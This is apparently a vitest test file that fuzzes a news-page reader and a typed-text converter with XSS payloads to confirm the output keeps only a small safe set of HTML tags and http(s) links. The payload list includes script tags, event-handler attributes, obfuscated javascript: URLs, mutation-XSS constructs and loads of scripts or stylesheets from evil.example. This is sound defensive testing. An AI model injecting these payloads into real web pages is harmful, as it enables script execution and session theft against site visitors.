import { type DefaultTreeAdapterMap, parseFragment } from "parse5";
import { describe, expect, test } from "vitest";
import { newsIn } from "#adapters/web/read-news.ts";
import { textAsTyped } from "#adapters/web/typed-text.ts";
import { type Dice, dice } from "../../fuzz/mutation.ts";

/** What runs, loads or leads somewhere, by itself. */
const payloads = [
  "<script>alert(1)</script>",
  "<script src=//evil.example/x.js></script>",
  "<script/src=data:,alert(1)>",
  "<img src=x onerror=alert(1)>",
  "<img src=x:x onerror\u000b=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
  "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>y</text></a></svg>",
  "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
  "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)></audio>",
  "<body onload=alert(1)>",
  "<base href=javascript:/a/-alert(1)//>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<style>@import '//evil.example/x.css';</style>",
  "<div style='background:url(javascript:alert(1))'>x</div>",
  "<table background=javascript:alert(1)><tr><td>x</table>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<template><img src=x onerror=alert(1)></template>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><img src=x onerror=alert(1)>",
  "<x onclick=alert(1)>x</x>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href=JaVaScRiPt:alert(1)>x</a>",
  "<a href='javascript&colon;alert(1)'>x</a>",
  "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
  "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
  "<a href='java&Tab;script:alert(1)'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
  "<a href='//evil.example' target=_blank onclick=alert(1) style='position:fixed'>x</a>",
  "<a href='https://reader:secret@evil.example/'>x</a>",
  "<a href='https://ok.example/\"onmouseover=alert(1) x=\"'>x</a>",
  "<a href=\"https://ok.example/'onmouseover='alert(1)\">x</a>",
  "<a href='https://ok.example/?a=1&lt;script&gt;alert(1)&lt;/script&gt;'>x</a>",
  "<p onclick=alert(1) id=x class=y data-z=1>x</p>",
  "<strong style='color:red' onmouseover=alert(1)>x</strong>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
  "<<script>alert(1)//<</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img/src=`x`onerror=alert(1)>",
  "<img src='x' onerror='alert(1)' <p>",
  "<a\u000chref=javascript:alert(1)>x</a>",
  "\u003cscript\u003ealert(1)\u003c/script\u003e",
  "＜script＞alert(1)＜/script＞",
  "<ſcript>alert(1)</ſcript>",
  "<p>\u202e<script>alert(1)</script>",
] as const;

/** What a payload is put into. */
const wraps: readonly ((payload: string) => string)[] = [
  (x) => x,
  (x) => `<p>${x}</p>`,
  (x) => `<b><i>${x}`,
  (x) => `<a href="https://ok.example/">${x}</a>`,
  (x) => `<ul><li>${x}</ul>`,
  (x) => `<blockquote>${x}</blockquote>`,
  (x) => `<table><tr><td>${x}</table>`,
  (x) => `<svg>${x}</svg>`,
  (x) => `<math><mi>${x}</mi></math>`,
  (x) => `<svg><foreignObject>${x}</foreignObject></svg>`,
  (x) => `<math><annotation-xml encoding="text/html">${x}</annotation-xml></math>`,
  (x) => `<noscript>${x}</noscript>`,
  (x) => `<style>${x}</style>`,
  (x) => `<title>${x}</title>`,
  (x) => `<!-- ${x} -->`,
  (x) => `<select><option>${x}</select>`,
  (x) => `<form><math><mtext></form><form><mglyph><style></math>${x}`,
  (x) => `<p title="${x}">y</p>`,
  (x) => `<p title='${x}'>y</p>`,
  (x) => x.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (x) => x.replaceAll("<", "&#60").replaceAll(">", "&#x3e;"),
  (x) => x.replaceAll("<", "&amp;lt;").replaceAll(">", "&amp;gt;"),
  (x) => x.replace(/[a-z]/g, (letter, at: number) => (at % 2 === 0 ? letter.toUpperCase() : letter)),
  (x) => x.replaceAll(" ", "/"),
  (x) => x.replaceAll(" ", "\u000c"),
  (x) => x.replaceAll("=", " =\n"),
  (x) => x.replaceAll("<", "<\u0000"),
  (x) => x.slice(0, -1),
  (x) => `${x.slice(0, x.length / 2)}<b>${x.slice(x.length / 2)}`,
  (x) => x + x,
];

/** Every payload in every wrapping, and some thousands in several. */
function* attacks(): Generator<string> {
  for (const payload of payloads) for (const wrap of wraps) yield wrap(payload);
  const roll: Dice = dice(20_261_122);
  for (let left = 3_000; left > 0; left--) {
    let attack: string = payloads[roll(payloads.length)] ?? "";
    for (let times = 1 + roll(4); times > 0; times--) attack = (wraps[roll(wraps.length)] ?? String)(attack);
    yield attack;
  }
}

const tags = new Set(["p", "a", "strong", "em", "ul", "ol", "li", "blockquote"]);

/** What a browser would find in limited HTML that must not be there. */
function harmIn(html: string): string | undefined {
  const look = (node: DefaultTreeAdapterMap["childNode"]): string | undefined => {
    if (node.nodeName === "#text") return undefined;
    if (!("tagName" in node)) return `a ${node.nodeName}`;
    if (!tags.has(node.tagName)) return `<${node.tagName}>`;
    for (const { name, value } of node.attrs) {
      if (node.tagName !== "a" || name !== "href" || !isHarmless(value)) return `${name}="${value}"`;
    }
    return node.childNodes.map(look).find((harm) => harm !== undefined);
  };
  return parseFragment(html)
    .childNodes.map(look)
    .find((harm) => harm !== undefined);
}

/** Whether a link leads to the web, without a password, and ends no attribute that it could stand in. */
function isHarmless(href: string): boolean {
  return /^https?:\/\/[^"'<>\s]+$/.test(href) && new URL(href).password === "";
}

/** The ways by which words from outside come in. */
const doors: Readonly<Record<string, (attack: string) => string>> = {
  list: (x) => `<h1>T</h1><h2>Latest developments</h2><ul><li>First words of it. Then ${x} and more.<li>${x}</ul>`,
  post: (x) =>
    `<h1>T</h1>${[1, 2].map((n) => `<article class=post id=p-${n}a><time datetime=2026-11-0${n}T10:00Z>10:00</time><h2>Head ${n} ${x}</h2><div>Words ${x}</div></article>`).join("")}`,
  "json-ld": (x) =>
    `<h1>T</h1><script type="application/ld+json">${JSON.stringify({ "@type": "LiveBlogPosting", liveBlogUpdate: [{ headline: `Head ${x}`, articleBody: x, url: x }] }).replaceAll("<", "\\u003c")}</script>`,
};

describe("attacks", () => {
  const all = [...attacks()];

  test.each(Object.keys(doors))(
    "do not come through a %s",
    (door) => {
      const harms: string[] = [];
      for (const attack of all) {
        const news = newsIn({ bytes: Buffer.from(doors[door]?.(attack) ?? ""), url: "https://news.example/live" });
        if ("refused" in news) continue;
        for (const { text = "", url } of news.developments) {
          const harm = harmIn(text) ?? (url === undefined || /^https?:\/\//.test(url) ? undefined : url);
          if (harm !== undefined) harms.push(`${harm} from ${attack}`);
        }
      }
      expect(all.length).toBeGreaterThan(5_000);
      expect(harms).toEqual([]);
    },
    120_000,
  );

  test("do not come through what is typed", () => {
    const harms = all.flatMap((attack) => harmIn(textAsTyped(attack) ?? "") ?? []);
    expect(harms).toEqual([]);
  }, 120_000);
});
